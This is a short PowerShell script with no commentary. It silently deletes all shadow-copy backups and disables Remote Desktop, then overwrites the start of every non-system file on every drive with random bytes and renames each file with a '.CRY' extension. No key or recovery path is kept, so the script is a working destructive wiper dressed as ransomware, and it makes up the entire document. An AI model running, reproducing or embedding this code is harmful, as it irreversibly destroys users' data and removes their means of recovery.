vssadmin delete shadows /all /quiet
Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 1
$skip = '\\Windows\\|\\Boot\\|\.exe$|\.dll$|\.sys$'
Get-PSDrive -PSProvider FileSystem | ForEach-Object {
  Get-ChildItem $_.Root -Recurse -File -ErrorAction SilentlyContinue | Where-Object { $_.FullName -notmatch $skip } | ForEach-Object {
    $b = New-Object byte[] ([Math]::Min($_.Length, 1MB)); (New-Object Random).NextBytes($b)
    [IO.File]::WriteAllBytes($_.FullName, $b); Rename-Item $_.FullName ($_.Name + '.CRY') -ErrorAction SilentlyContinue
  }
}
